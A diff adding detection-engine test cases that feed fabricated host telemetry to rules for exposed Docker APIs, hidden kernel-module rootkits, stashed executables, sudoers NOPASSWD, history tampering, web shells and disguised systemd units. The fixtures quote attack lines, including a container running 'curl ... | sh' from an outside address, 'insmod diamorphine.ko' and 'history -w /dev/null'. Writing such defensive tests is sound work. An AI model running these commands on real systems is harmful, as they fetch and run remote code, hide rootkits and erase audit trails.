@@ -1,10 +1,10 @@
 // Attacks seen through the contract's core tables only (processes, shell_history, hash, systemd_units, ...): a fleet
 // that does not carry augeas, file or process_memory_map must still show them. Each case also has its look-alike.
 import { test } from "tap";
-import { extractEntities, getDetection, routeQuery } from "../../shared/engine/index.js";
+import { extractEntities, getDetection, routeQuery, runInvestigation } from "../../shared/engine/index.js";
 import type { DetectionHit, HostData, QueryEntities } from "../../shared/engine/index.js";
 import { setuidTargets } from "../../shared/engine/detections/unexpected-suid.js";
-import { host, proc } from "./helpers.js";
+import { coverage, host, proc, sock } from "./helpers.js";
 
 const none: QueryEntities = { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} };
 function run(id: string, h: HostData, entities: Partial<QueryEntities> = {}): DetectionHit[] {
@@ -87,4 +87,85 @@ test("SSH key appended to authorized_keys by hand from a shell is a signal on an
   t.ok(hits[0]?.evidence.some((e) => e.table === "shell_history"));
   t.same(run("ssh-authorized-key", host({ users, authorized_keys: [{ ...key, comment: "alice@laptop" }] })), [], "alice's own key, no hand edit: quiet");
   t.ok(routeQuery("could someone log into api-06 without a password whenever they want?", "standard").detection_ids.includes("ssh-authorized-key"));
+});
+
+test("an exposed Docker API with clients at public addresses and a container running curl | sh is high, with both as evidence", async (t) => {
+  const dockerd = proc(300, "dockerd", "/usr/bin/dockerd", "/usr/bin/dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock");
+  const listen = { pid: "300", port: "2375", protocol: "6", address: "0.0.0.0" };
+  const abused = host({
+    processes: [dockerd],
+    listening_ports: [listen],
+    process_open_sockets: [sock(300, "198.51.100.23", 51234, { local_port: "2375" })],
+    docker_containers: [{ id: "c0ffee", name: "/x", image: "alpine", command: "sh -c 'apk add curl; curl -s http://198.51.100.24/x | sh'" }],
+  });
+  const hits = run("docker-api-exposed", abused);
+  t.equal(hits.length, 1);
+  t.ok(hits[0]?.evidence.some((e) => e.table === "docker_containers"));
+  t.ok(hits[0]?.evidence.some((e) => e.table === "process_open_sockets"));
+  const quiet = run("docker-api-exposed", host({ processes: [dockerd], listening_ports: [listen], docker_containers: [{ id: "a1", name: "/web", image: "nginx", command: "nginx -g 'daemon off;'" }] }));
+  t.notOk(quiet[0]?.evidence.some((e) => e.table === "docker_containers"), "an ordinary container is not evidence of abuse");
+});
+
+test("a kernel module that hides from the module list is seen by its insmod line, its file or its kit's userland", async (t) => {
+  const hidden = host({ kernel_modules: [], shell_history: [{ uid: "0", command: "cd /dev/shm/.m && insmod diamorphine.ko", history_file: "/root/.bash_history" }] });
+  const hits = run("unexpected-kernel-module", hidden);
+  t.equal(hits.length, 1);
+  t.match(hits[0]?.summary ?? "", /Diamorphine/);
+  t.match(hits[0]?.summary ?? "", /not in the loaded module list/);
+  const reptile = run("unexpected-kernel-module", host({ processes: [proc(66, "reptile_shell", "/reptile/reptile_shell", "/reptile/reptile_shell -t 198.51.100.7 -p 443")] }));
+  t.equal(reptile.length, 1);
+  const dkms = host({ shell_history: [{ uid: "0", command: "insmod /lib/modules/6.1.0-18-amd64/updates/dkms/zfs.ko", history_file: "/root/.bash_history" }], file: [{ path: "/var/lib/dkms/zfs/2.1.11/6.1.0-18-amd64/x86_64/module/zfs.ko", mode: "0644" }] });
+  t.same(run("unexpected-kernel-module", dkms), [], "modules from the kernel tree and DKMS are not traces");
+});
+
+test("executables stashed in a hidden directory under a system path, not running, are medium; hidden data files are not", async (t) => {
+  const stash = host({ file: [{ path: "/usr/share/fonts/.swjb", type: "directory", mode: "0755" }, { path: "/usr/share/fonts/.swjb/scan", type: "regular", mode: "0755" }, { path: "/usr/share/fonts/.swjb/bot", type: "regular", mode: "0755" }] });
+  const hits = run("hidden-system-path-exec", stash);
+  t.equal(hits.length, 1);
+  t.equal(hits[0]?.severity, "medium");
+  t.match(hits[0]?.summary ?? "", /\/usr\/share\/fonts\/\.swjb/);
+  const fontconfig = host({ file: [{ path: "/usr/share/fonts/truetype/.uuid", type: "regular", mode: "0644" }, { path: "/usr/lib/debug/.build-id/ab/cdef.debug", type: "regular", mode: "0755" }] });
+  t.same(run("hidden-system-path-exec", fontconfig), [], "fontconfig's .uuid and Fedora's .build-id are not stashes");
+});
+
+test("sudoers: NOPASSWD on a shell is NOPASSWD on everything; a narrow NOPASSWD command is not", async (t) => {
+  const shell = run("sudoers-nopasswd-all", host({ sudoers: [{ source: "/etc/sudoers", header: "jenkins1", rule_details: "ALL=NOPASSWD: /bin/bash" }] }));
+  t.equal(shell.length, 1);
+  t.same(run("sudoers-nopasswd-all", host({ sudoers: [{ source: "/etc/sudoers.d/deploy", header: "deploy", rule_details: "ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx" }] })), []);
+});
+
+test("history written to /dev/null is history tampering", async (t) => {
+  t.equal(run("history-tampering", host({ shell_history: [{ uid: "0", command: "history -w /dev/null", history_file: "/root/.bash_history" }] })).length, 1);
+  t.same(run("history-tampering", host({ shell_history: [{ uid: "0", command: "history | grep ssh", history_file: "/root/.bash_history" }] })), []);
+});
+
+test("a web server's shell running ps aux is web-shell reconnaissance, not an info note", async (t) => {
+  const fpm = proc(500, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", { uid: "33" });
+  const hits = run("webshell-shell-spawn", host({ processes: [fpm, proc(501, "sh", "/usr/bin/dash", "sh -c ps aux", { uid: "33", parent: "500" })] }));
+  t.equal(hits.length, 1);
+  t.not(hits[0]?.severity, "info");
+});
+
+test("a unit named like a system component, defined in /etc, running an unpackaged program with a public connection", async (t) => {
+  const unit = (id: string) => ({ id, fragment_path: `/etc/systemd/system/${id}`, active_state: "active" });
+  const implant = host({
+    systemd_units: [unit("udev-worker.service")],
+    processes: [proc(810, "udev-workerd", "/usr/local/bin/udev-workerd", "/usr/local/bin/udev-workerd", { cgroup_path: "/system.slice/udev-worker.service" })],
+    process_open_sockets: [sock(810, "198.51.100.77", 443)],
+  });
+  const hits = run("suspicious-systemd-unit", implant);
+  t.equal(hits.length, 1);
+  t.match(hits[0]?.summary ?? "", /named like the udev system component/);
+  const exporter = host({
+    systemd_units: [unit("node_exporter.service")],
+    processes: [proc(811, "node_exporter", "/usr/local/bin/node_exporter", "/usr/local/bin/node_exporter", { cgroup_path: "/system.slice/node_exporter.service" })],
+  });
+  t.same(run("suspicious-systemd-unit", exporter), []);
+});
+
+test("a host without a supplementary table (file, augeas) is not a coverage gap that makes a clean verdict inconclusive", async (t) => {
+  const clean = host({ processes: [proc(1, "systemd", "/usr/lib/systemd/systemd")], process_open_sockets: [], listening_ports: [], crontab: [], systemd_units: [], users: [] });
+  const report = runInvestigation(routeQuery("anything hiding in dot directories?", "standard"), [clean], coverage(1), "standard");
+  t.equal(report.verdict, "benign");
+  t.ok(report.coverage_gaps.some((g) => /supplementary tables/.test(g)), "the skipped deeper checks are still said");
 });
